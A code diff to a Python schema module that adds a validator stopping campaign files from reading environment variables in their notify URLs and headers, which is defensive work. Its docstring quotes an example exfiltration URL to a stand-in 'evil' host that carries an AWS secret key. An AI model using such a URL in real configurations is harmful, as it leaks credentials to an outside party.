@@ -10,7 +10,7 @@ from typing import Literal
 
 from pydantic import BaseModel, ConfigDict, Field, StrictInt, field_validator, model_validator
 
-from policies.schema import NotifyTarget
+from policies.schema import NotifyTarget, env_refs
 from tools.benchparse import ParserName
 from tools.transport import Host
 
@@ -238,6 +238,21 @@ class Fleet(_Strict):
         return value
 
 
+class CampaignNotifyTarget(NotifyTarget):
+    """A `notify:` target in a campaign. A campaign is the file someone hands you, so it may not read
+    the environment: `url: https://evil/?k={{env:AWS_SECRET_ACCESS_KEY}}` would send your secret with the
+    first gate. Only the policy file (the operator's) may name environment variables."""
+
+    @model_validator(mode="after")
+    def _no_environment(self) -> CampaignNotifyTarget:
+        if any(env_refs(t) for t in [self.url or "", *self.headers.values()]):
+            raise ValueError(
+                "a campaign's notify: cannot read the environment ({{env:NAME}}); put a target that needs a "
+                "credential in the policy file's notify:"
+            )
+        return self
+
+
 class Campaign(_Strict):
     name: str
     goal: Goal
@@ -254,7 +269,7 @@ class Campaign(_Strict):
     brain: BrainSpec = Field(default_factory=BrainSpec)
     fleet: Fleet = Field(default_factory=Fleet)
     # Told when a gate starts waiting for a person, before the policy's own `notify:` (agent/run/notify.py).
-    notify: list[NotifyTarget] = Field(default_factory=list)
+    notify: list[CampaignNotifyTarget] = Field(default_factory=list)
     options: list[Option] = Field(min_length=1)
 
     @model_validator(mode="after")
